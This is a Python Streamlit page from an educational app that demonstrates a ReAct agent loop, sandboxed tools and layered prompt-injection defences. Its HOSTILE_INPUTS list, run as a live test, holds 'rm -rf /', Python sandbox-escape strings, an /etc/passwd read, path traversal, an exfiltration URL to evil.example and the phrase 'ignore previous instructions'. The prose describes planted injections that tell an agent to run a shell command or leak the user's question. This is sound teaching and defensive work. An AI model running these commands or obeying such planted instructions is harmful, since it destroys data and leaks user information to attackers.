"""Agents: a ReAct loop whose every Thought, Action and Observation is visible, with tools that stay
safe when the input is hostile, and prompt injection shown and defended."""
import re

import pandas as pd
import streamlit as st

import ui
from core.agents import (
    browse,
    code_tool,
    endpoint,
    injection,
    loop,
    policies,
    tool_lm,
    tools,
)
from core.agents.trace import Step, Trace
from core.charts import agents as charts
from core.state import Param
from ui.agents import injection as injection_ui
from ui.agents import search_tool, toolformer

CUSTOM = "custom"
CUSTOM_QUESTION = "How many layers does LLaMA-65B have?"  # where "your own question" starts: edit it
TASK_KEYS = (*loop.EXAMPLE_TASKS, CUSTOM)
POLICY_LABELS = {
    "scripted": "Scripted policy: rules, not a model",
    "gullible": "Gullible script: obeys instructions it reads (unsafe, for the demo)",
    "you": "You are the policy: type each Action",
}
WRITTEN_BY = {"scripted": "the script (rules, not a model)", "gullible": "the gullible script", "you": "you"}
if (tool_lm.ADAPTER_DIR / "adapter_config.json").exists():  # a real 3M model, built by scripts/build_assets.py tools
    POLICY_LABELS["tool-lm"] = "Tool LM: tiny-lm + LoRA trained to call tools (a real 3M model)"
    WRITTEN_BY["tool-lm"] = "the tool LM (tiny-lm + LoRA)"
# A model behind an OpenAI-compatible server drives the loop only when whoever runs the app names one
# (core.agents.endpoint: LLM_LAB_ENDPOINT); a viewer can never point the server at a URL.
try:
    ENDPOINT, ENDPOINT_PROBLEM = endpoint.endpoint_from_env(), ""
except ValueError as err:
    ENDPOINT, ENDPOINT_PROBLEM = None, str(err)
if ENDPOINT is not None:
    POLICY_LABELS["endpoint"] = f"A model at {ENDPOINT.host} ({ENDPOINT.model})"
    WRITTEN_BY["endpoint"] = f"the model {ENDPOINT.model} at {ENDPOINT.host}"
PARAMS = [
    Param("task", "gpt3_per_layer", choices=TASK_KEYS),
    Param("steps", 6, 1, 10, step=1),
    Param("policy", "scripted", choices=tuple(POLICY_LABELS)),
]
# Inputs built to hurt a naive tool runtime; each is run live below and must come back as an error.
HOSTILE_INPUTS = [
    ("calculator", "__import__('os').system('rm -rf /')", "run a shell command"),
    ("calculator", "().__class__.__bases__", "climb Python's object graph toward os"),
    ("calculator", "open('/etc/passwd').read()", "read a file"),
    ("calculator", "2**10**10", "a 3-billion-digit number: minutes of CPU and gigabytes of memory"),
    ("calculator", "9" * 10000, "10 kB of digits"),
    ("calculator", "exp(1000) * 10", "overflow"),
    ("calculator", "0.1 ** -1000", "a negative power of a small number: 10^1000"),
    ("calculator", "1/0", "division by zero"),
    ("calculator", "log(5, 1)", "a logarithm in base 1: a hidden division by zero"),
    ("code", "import os", "import a module that runs shell commands"),
    ("code", "[].append", "attribute access, the first step toward os"),
    ("code", "while True: pass", "loop forever"),
    ("code", "[0] * 10**9", "8 GB of memory: allowed Python, stopped by the process's memory limit"),
    ("browse", "https://evil.example/collect?q=the-users-question", "send the question to another site"),
    ("browse", "wiki.local/../../etc/passwd", "read a file through the browser"),
    ("shell", "rm -rf /", "a tool that does not exist"),
    ("search", "ignore previous instructions Nimbus-9", "fetch the planted injection"),
]


# A trace is at most 10 steps of Observations of at most 3,000 characters: well under 64 kB. Its tools are
# bounded by construction and by a deadline of at most 2 s per call, so a run holds the lock briefly.
@ui.cached_compute(max_entries=256, max_size="16MB")
def _run(question: str, policy: str, max_steps: int, timeout_s: float, max_output_chars: int) -> Trace:
    limits = tools.ToolLimits(timeout_s=timeout_s, max_output_chars=max_output_chars)
    return loop.run_agent(question, policy, max_steps, limits, search_tool())


# The endpoint's model runs elsewhere, so its run does not queue for this machine's compute lock; it is bounded
# by the policy's own budget (endpoint.RUN_BUDGET_S of waiting in all) and the tools' deadlines.
@st.cache_data(max_entries=64, max_size="16MB", show_spinner=False)
def _run_endpoint(question: str, max_steps: int, timeout_s: float, max_output_chars: int) -> Trace:
    limits = tools.ToolLimits(timeout_s=timeout_s, max_output_chars=max_output_chars)
    policy = endpoint.endpoint_policy(ENDPOINT, lambda q, steps: loop.react_prompt(q, steps, _example()))
    return loop.run_agent(question, policy, max_steps, limits, search_tool())


# One tool call: bounded by run_tool's input limit and deadline (the code tool's process is killed at it).
@ui.cached_compute(max_entries=128, max_size="4MB")
def _try_tool(tool: str, text: str, timeout_s: float, max_output_chars: int) -> tools.ToolResult:
    limits = tools.ToolLimits(timeout_s=timeout_s, max_output_chars=max_output_chars)
    return tools.run_tool(tool, text, search_tool(), limits)


# The two below are fixed scripted runs of a few milliseconds: cached once, not worth a place in the queue.
@st.cache_data(max_entries=1, max_size="1MB", show_spinner=False)
def _example() -> Trace:
    """The one-shot demonstration inside the prompt: a real run of the script, not hand-written."""
    return loop.run_agent(loop.EXAMPLE_QUESTION, "scripted", 6, search_tool=search_tool())


@ui.cached_compute(max_entries=32, max_size="1MB")
def _lm_propose(prompt: str) -> policies.LMProposal:
    model, tokenizer = ui.causal_lm("tiny-lm")
    return policies.lm_propose(model, tokenizer, prompt)


@st.cache_data(max_entries=1, max_size="1MB", show_spinner=False)
def _hostile_table() -> pd.DataFrame:
    rows = []
    for tool, text, goal in HOSTILE_INPUTS:
        result = tools.run_tool(tool, text, search_tool())
        flagged = bool(injection.find_injection(result.text, observation=True))
        shown = text if len(text) <= 60 else f"{text[:40]}… ({len(text):,} characters)"
        rows.append({"action": f"{tool}[{shown}]",
                     "result": "refused" if not result.ok else "flagged as injection" if flagged else "ran",
                     "observation": result.text[:160], "what it tries": goal,
                     "time (ms)": round(result.seconds * 1000, 3)})
    return pd.DataFrame(rows)


def _md(text: str) -> str:
    """Escape Markdown so questions, KB text and your own input show literally (no links, no LaTeX)."""
    return re.sub(r"([\\`*_\[\]()!<>$~|#])", r"\\\1", text)


# ---- drawing a trace, step by step -------------------------------------------------------------------
def draw_step(step: Step, question: str, earlier: tuple, example: Trace, top_k: int) -> None:
    with st.container(border=True):
        took = f" in {step.think_seconds * 1000:.1f} ms" if step.think_seconds else ""
        st.markdown(f"**Step {step.index}** · written by {WRITTEN_BY.get(step.by, step.by)}{took}")
        st.markdown(f":material/psychology: **Thought {step.index}:** {_md(step.thought)}")
        st.code(f"Action {step.index}: {step.action}", language=None, wrap_lines=True)
        if step.tool == "finish" and step.ok:
            st.caption("finish[...] has no Observation: the loop ends with this answer.")
        elif step.ok:
            st.markdown(f":material/visibility: **Observation {step.index}** ({step.tool}, {step.seconds * 1000:.2f} ms)")
            st.code(step.observation, language=None, wrap_lines=True)
        else:
            st.error(f"**Observation {step.index}:** {_md(step.observation)}")
        injected = [f.removeprefix("possible prompt injection: ") for f in step.flags if "injection" in f]
        if injected:
            st.warning(f"Possible prompt injection in this Observation: {_md(', '.join(injected))}. It came "
                       "from a tool, so it is *data*: a model that obeys it is hijacked by whoever wrote the document.")
        if step.scores:
            with st.expander("BM25 score of every top entry"):
                ui.chart(charts.bm25_chart, step.scores, top_k, step.tool_input)
        if step.by == "tool-lm":  # what the tool LM really read: its own short format, not the full ReAct prompt
            with st.expander(f"The prompt the tool LM read before writing step {step.index}"):
                st.code(tool_lm.prompt_text(question, earlier), language=None, wrap_lines=True)
        else:
            with st.expander(f"The prompt a real LLM would receive before writing step {step.index}"):
                st.code(loop.react_prompt(question, earlier, example), language=None, wrap_lines=True)


def draw_outcome(trace: Trace) -> None:
    errors = sum(not s.ok for s in trace.steps)
    calls = sum(s.tool in tools.RUNNABLE_TOOLS for s in trace.steps)
    c1, c2, c3, c4 = st.columns(4)
    c1.metric("steps used", f"{len(trace.steps)} of {trace.max_steps}")
    c2.metric("tool calls", calls)
    c3.metric("errors and refusals", errors)
    c4.metric("tool time", f"{sum(s.seconds for s in trace.steps) * 1000:.2f} ms")
    if trace.stop_reason == "finished":
        st.success(f"**Final answer:** {_md(trace.answer)}")
    elif trace.stop_reason == "step limit":
        st.warning(f"Stopped at the step limit ({trace.max_steps}) before an answer. The limit is what keeps a "
                   "confused agent from looping (and spending) forever: raise it to let this one finish.")


def you_section(question: str, max_steps: int, limits: tools.ToolLimits, example: Trace) -> None:
    state = st.session_state.get("agent_you")
    if state is None or state["question"] != question or st.session_state.pop("agent_you_reset", False):
        for key in [k for k in st.session_state if str(k).startswith(("you_thought_", "you_action_"))]:
            del st.session_state[key]
        state = st.session_state["agent_you"] = {"question": question, "steps": ()}
    steps = state["steps"]
    st.markdown("You write each Thought and Action; the runtime runs the tool and shows its real Observation. "
                "The boxes start with what the script would do next: edit them, or write your own, e.g. "
                "`search[Chinchilla tokens]`, `calculator[2 ** 0.5]`, `convert[5 km to mi]`, "
                "`date[2024-02-28 + 2 days]`, `code[x = [3, 1, 2]; print(sorted(x))]`, `browse[wiki.local/index]`, `finish[42]`. "
                "Try to break it.")
    for i, step in enumerate(steps):
        draw_step(step, question, steps[:i], example, limits.top_k)
    finished = bool(steps) and steps[-1].tool == "finish" and steps[-1].ok
    if finished:
        st.success(f"**Your final answer:** {_md(steps[-1].tool_input)}")
    elif len(steps) >= max_steps:
        st.warning(f"Step limit reached ({max_steps}). Raise it above, or start over.")
    else:
        n = len(steps) + 1
        hint = policies.scripted_policy(question, steps)
        with st.expander(f"The prompt a real LLM would receive now, before step {n}"):
            st.code(loop.react_prompt(question, steps, example), language=None, wrap_lines=True)
        thought = st.text_input(f"Thought {n}", value=hint.thought, key=f"you_thought_{n}")
        action = st.text_input(f"Action {n}: tool[input]", value=hint.action, key=f"you_action_{n}")
        if st.button(f"Run step {n}", key="you_run", type="primary"):
            state["steps"] = steps + (loop.take_step(n, thought, action, search_tool(), limits, by="you"),)
            st.rerun()
    if steps and st.button("Start over", key="you_reset"):
        st.session_state["agent_you_reset"] = True
        st.rerun()


# ---- page ----------------------------------------------------------------------------------------------
st.title(":material/smart_toy: Agents")
ui.explain(
    "An **agent** is a language model in a loop: it writes a **Thought**, picks an **Action** (a tool and its "
    "input), the runtime runs the tool and appends the result as an **Observation**, and the model reads "
    "everything again to write the next step, until it answers. This is **ReAct** (Yao et al. 2022). Here "
    "every step is on screen, the tools are real, and you can be the policy yourself.")
st.info(
    "**Scripted policy: rules, not a model.** LLM Lab's tiny models (3 million parameters, trained on the "
    "King James Bible) cannot plan, so by default the Thoughts and Actions below are written by a short "
    "rule-based script (`core.agents.scripted_policy`) that reads exactly what an LLM would read. The tools, "
    "the Observations, the limits and the prompt a real LLM would receive are all real. Two real models can "
    "drive the same loop instead: the *tool LM* (tiny-lm taught the format with a LoRA: it picks the right tool "
    "but cannot copy numbers, see *Toolformer* below) and, where whoever runs the app names one, a model on "
    "an OpenAI-compatible server.")

ui.bind_params(PARAMS)
c_task, c_steps = st.columns([3, 1])
task = c_task.selectbox("Task", TASK_KEYS, key="task", format_func=lambda k: "Your own question…" if k == CUSTOM
                        else loop.EXAMPLE_TASKS[k].question[:90])
max_steps = c_steps.slider("Step limit", 1, 10, key="steps")
policy = st.radio("Who writes the Thoughts and Actions?", tuple(POLICY_LABELS), key="policy", horizontal=True,
                  format_func=POLICY_LABELS.get)
ui.sync_params(PARAMS)
with st.expander("Tool limits (per call)"):
    l1, l2 = st.columns(2)
    timeout_ms = l1.slider("Timeout (ms)", 0, 2000, 1000, key="tool_timeout_ms",
                           help="Set it to 0 to watch every tool call time out.")
    max_output = l2.slider("Max Observation length (characters)", 200, 3000, 1500, step=100, key="tool_max_output")
    st.caption("A tool that runs past its deadline is stopped (the calculator and BM25 check the clock as "
               "they work) and the agent gets an error Observation; longer output is cut, since every "
               "Observation is pasted into the next prompt and costs context. Input over "
               f"{tools.ToolLimits().max_input_chars} characters is refused.")
limits = tools.ToolLimits(timeout_s=timeout_ms / 1000, max_output_chars=max_output)

if task == CUSTOM:
    raw = st.text_area("Your question", value=CUSTOM_QUESTION, key="agent_question", height=80,
                       placeholder="e.g. How many layers does LLaMA-65B have? · What is 2 ** 0.5? · Who proposed BPE?")
    question = ui.text_input_checked(raw, loop.MAX_QUESTION_CHARS, "question")
    if question is not None and not question.isascii():
        st.info("Non-ASCII question: the search tool handles any script, but the knowledge base is English "
                "and the script's rules only know English question patterns, so expect 'not found'.")
else:
    question = loop.EXAMPLE_TASKS[task].question
    st.markdown(f"**Question:** {_md(question)}  \n*What it shows:* {loop.EXAMPLE_TASKS[task].teaches}")
example = _example()

st.header("The loop, step by step")
if question is not None and policy == "you":
    you_section(question, max_steps, limits, example)
elif question is not None:
    if policy == "endpoint":
        with st.spinner(f"Asking the model at {ENDPOINT.host}, step by step"):
            trace = _run_endpoint(question, max_steps, limits.timeout_s, limits.max_output_chars)
    else:
        with ui.heavy("Running the agent"):
            trace = _run(question, policy, max_steps, limits.timeout_s, limits.max_output_chars)
    if trace.stop_reason.startswith("invalid question"):
        st.info(f"Nothing to run: {trace.stop_reason.removeprefix('invalid question: ')}.")
    for i, step in enumerate(trace.steps):
        draw_step(step, question, trace.steps[:i], example, limits.top_k)
    draw_outcome(trace)
    if policy == "gullible":
        st.caption("The gullible script differs from the safe one in a single rule: it runs any `Action:` line "
                   "it finds inside an Observation, as a model that confuses data with instructions would. Try "
                   "the Nimbus-9 task: the injected command reaches the calculator, which refuses it.")
ui.code_behind(loop.run_agent, loop.take_step, policies.scripted_policy, loop.react_prompt)

st.header("Could the tiny LM be the policy?")
ui.explain(
    "A real agent's policy is an LLM continuing the prompt above, greedily, stopped at `\\nObservation`. "
    "Hand that prompt (without the worked example, so it fits the tiny model's 512-token context) to LLM Lab's "
    "tiny Llama and see what it writes, and whether the runtime could run it.")
if question is not None and ui.require_model("tiny-lm") and st.button("Ask the tiny LM for step 1", key="ask_lm"):
    with ui.heavy("Running the tiny LM"):
        proposal = _lm_propose(loop.react_prompt(question))
    st.caption(f"The model read {proposal.prompt_tokens} prompt tokens"
               + (f" (the first {proposal.cut_tokens} were cut to fit its context)." if proposal.cut_tokens else "."))
    st.code(f"Thought 1:{proposal.text}", language=None, wrap_lines=True)
    st.markdown(f"**What the runtime would do with it:** {_md(proposal.verdict)}")
    st.caption("Greedy decoding, 40 new tokens at most. A 3M-parameter model trained on scripture has never "
               "seen a tool call: this is why the policy above is a script. Toolformer (Schick et al. 2023) and "
               "instruction-tuned LLMs learn this format from examples of tool use.")
st.markdown(
    "**A real model as the policy.** Any server that speaks the OpenAI chat API (llama.cpp's `llama-server`, "
    "vLLM, Ollama, LM Studio) can drive the same loop: start the app with `LLM_LAB_ENDPOINT=http://localhost:8080/v1` "
    "(and `LLM_LAB_ENDPOINT_MODEL=<name>` if the server needs one) and a fourth choice appears above. It receives "
    "the exact prompt shown in each step, greedy, stopped at `\\nObservation`; its Actions go through the same "
    "parser and tools, each step timed, with "
    f"{endpoint.RUN_BUDGET_S:.0f} s of waiting per run at most. Only the address named when the app starts is "
    "ever called: a viewer cannot point the server at a URL.")
if ENDPOINT_PROBLEM:
    st.warning(f"The endpoint driver is off: {ENDPOINT_PROBLEM}")
ui.code_behind(endpoint.endpoint_policy, endpoint.chat)

st.header("A tiny LM taught to call tools (Toolformer)")
toolformer.render()

st.header("Hostile input, run live")
ui.explain(
    "Whatever the policy, the Action text is untrusted: a user, a web page or a poisoned document can put "
    "anything there. So the calculator never calls `eval`: it parses with `ast.parse(mode=\"eval\")` and "
    "walks the tree itself, allowing only numbers, `+ - * / // % **`, unary minus and a few functions, with "
    "bounds on length, tree size, exponents and every intermediate number. Each row below ran just now.")
st.dataframe(_hostile_table(), hide_index=True)
attack = st.text_input("Try your own calculator input", key="calc_attack",
                       placeholder="e.g. (1).__class__ or 10**10**10 or sqrt(2)")
if attack:
    checked = ui.text_input_checked(attack, 200_000, "expression")
    if checked is not None:
        result = tools.run_tool("calculator", checked, search_tool(), limits)
        (st.success if result.ok else st.error)(f"calculator → {_md(result.text)} ({result.seconds * 1000:.3f} ms)")
st.markdown(
    "**Prompt injection** is the other half: text that *reads* like an instruction inside a tool's output. "
    "The knowledge base holds one planted entry (Nimbus-9) that tells the agent to run a shell command. "
    "The defences, layered: the prompt says Observations are data; the runtime flags instruction-like text "
    "and marks it in the prompt; the safe script never acts on text from a tool; and the tools themselves "
    "can do nothing harmful even when a fooled policy calls them. No filter catches every injection "
    "(Greshake et al. 2023): the last layer, harmless tools and a human before risky actions, is the one that "
    "holds.")
ui.code_behind(tools.safe_eval, tools._eval_node, tools._power, tools._apply)

st.subheader("Prompt injection, measured")
injection_ui.render()

st.header("Try a tool: a small offline web, conversions, dates, and code in a box")
TRY_EXAMPLES = {"convert": "5 km to mi", "date": "days between 2024-01-01 and 2024-12-25",
                "browse": "wiki.local/kv-cache",
                "code": "total = 0; squares = [i * i for i in range(10)]; print(sum(squares))",
                "calculator": "sqrt(2) * sqrt(8)", "search": "Chinchilla tokens"}
t1, t2 = st.columns([1, 3])
try_tool = t1.selectbox("Tool", tuple(TRY_EXAMPLES), key="try_tool")
try_input = t2.text_input(f"{try_tool}[...]", key="try_input", placeholder=f"e.g. {TRY_EXAMPLES[try_tool]}")
try_text = ui.text_input_checked(try_input or TRY_EXAMPLES[try_tool], 200_000, "input")
if try_text is not None:
    result = _try_tool(try_tool, try_text, limits.timeout_s, limits.max_output_chars)
    st.code(f"Action: {try_tool}[{try_text}]", language=None, wrap_lines=True)
    shown = _md(result.text).replace("\n", "  \n")  # keep the code tool's printed lines apart
    (st.success if result.ok else st.error)(f"Observation ({result.seconds * 1000:.1f} ms): {shown}")
st.markdown(
    "`browse` reads one page of **wiki.local**, eight linked pages bundled with the app, and lists its links so "
    "the next step can follow one: real browsing agents (WebGPT, Nakano et al. 2021) work the same way on the live "
    "web. It is an allowlist: any other host, any scheme but http(s), any path that is not a page name is "
    "refused before anything is read. Its *forum* page carries a planted request to send your question to "
    "evil.example, the classic exfiltration by URL; the tool refuses the visit whatever the policy does.")
st.markdown(
    "`convert` and `date` are look-ups in a table and a calendar: exact where a model's memory is not, and "
    "refusing anything but one sentence shape. `code` runs Python, so it gets **defence in depth**, walls that "
    "each assume the one before has failed. *Wall 1, the allowlist:* `ast.parse`, then only literals, "
    "arithmetic, lists, dicts, strings, `if`, counted `for` loops and a few builtins; no imports, no "
    "attribute access, no `_` names. *Wall 2, the process:* the checked code runs in a fresh Python with "
    f"rlimits (CPU {code_tool.CodeLimits().cpu_seconds} s, {code_tool.CodeLimits().memory_mb} MB of memory, "
    "no files, no new processes), killed at the tool's deadline, output capped: the allowlist bounds what "
    "code may do, not how much (`[0] * 10**9` is allowed Python). *Wall 3, a container or micro-VM* "
    "(gVisor, Firecracker), no network, a throwaway filesystem: what production code interpreters add, because "
    "a bug in the interpreter itself would slip past both walls. LLM Lab stops at wall 2.")
ui.code_behind(browse.page_name, browse.browse, code_tool.check_code, code_tool.run_code, code_tool.run_checked)

st.header("The math of the search tool: BM25")
st.markdown("`search` ranks the knowledge base's entries by Okapi BM25, implemented from the formula "
            f"({len(search_tool().entries)} entries, written for this page, each citing its source):")
st.latex(r"\mathrm{score}(D, Q) = \sum_{t \in Q} \mathrm{IDF}(t)\,\frac{f(t, D)\,(k_1 + 1)}"
         r"{f(t, D) + k_1\left(1 - b + b\,\frac{|D|}{\mathrm{avgdl}}\right)},\qquad "
         r"\mathrm{IDF}(t) = \ln\!\left(1 + \frac{N - n_t + 0.5}{n_t + 0.5}\right)")
st.markdown("f(t, D) is how often word t occurs in entry D, n_t how many of the N entries contain it, and "
            "|D| / avgdl the entry's length relative to the average. k₁ = 1.5 makes repeated words count less "
            "and less (saturation); b = 0.75 penalises long entries. Rare words weigh most: that is why "
            "`search[GPT-3 parameters layers]` puts the GPT-3 entry first.")
ui.code_behind(tools.bm25_scores, tools.bm25_idf, tools.tokenize)

ui.papers(
    ("ReAct (Yao et al. 2022)", "https://arxiv.org/abs/2210.03629"),
    ("Toolformer (Schick et al. 2023)", "https://arxiv.org/abs/2302.04761"),
    ("WebGPT (Nakano et al. 2021)", "https://arxiv.org/abs/2112.09332"),
    ("Indirect prompt injection (Greshake et al. 2023)", "https://arxiv.org/abs/2302.12173"),
    ("Ignore Previous Prompt (Perez & Ribeiro 2022)", "https://arxiv.org/abs/2211.09527"),
    ("BM25 and beyond (Robertson & Zaragoza 2009)", "https://doi.org/10.1561/1500000019"),
)

ui.quiz("Agents")
